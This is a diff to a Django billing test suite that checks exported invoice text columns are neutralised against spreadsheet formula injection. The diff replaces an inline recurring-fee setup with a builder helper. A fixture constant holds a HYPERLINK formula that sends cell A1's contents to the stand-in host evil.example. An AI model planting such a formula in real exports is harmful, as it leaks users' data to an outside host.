@@ -12,7 +12,8 @@ from django.urls import reverse
 from django.utils import timezone
 
 from billing import services as billing
-from billing.models import BillingRun, Invoice, InvoiceLine, RecurringFee
+from billing.models import BillingRun, Invoice, InvoiceLine
+from tests.billing.builders import package_fee
 
 D = Decimal
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Aarhus")'
@@ -92,15 +93,7 @@ def test_every_text_column_is_neutralised_whatever_it_starts_with(cast, order_in
 
 def test_credit_amounts_stay_negative_numbers_while_a_typed_minus_is_neutralised(cast, order_in, client):
     order = order_in("draft", requisition_number="-5")
-    fee = RecurringFee.objects.create(
-        customer=cast.customer_a,
-        order=order,
-        kind=RecurringFee.Kind.PACKAGE,
-        description_da="Vagtplanpakke",
-        description_en="Rostering package",
-        monthly_fee=D("3100.00"),
-        starts_on=datetime.date(2026, 1, 1),
-    )
+    fee = package_fee(order, start=datetime.date(2026, 1, 1), customer=cast.customer_a)
     billing.billing_run(period=datetime.date(2026, 3, 1))
     fee.ends_on = datetime.date(2026, 2, 15)  # ended retroactively: the next run credits February and March
     fee.save()
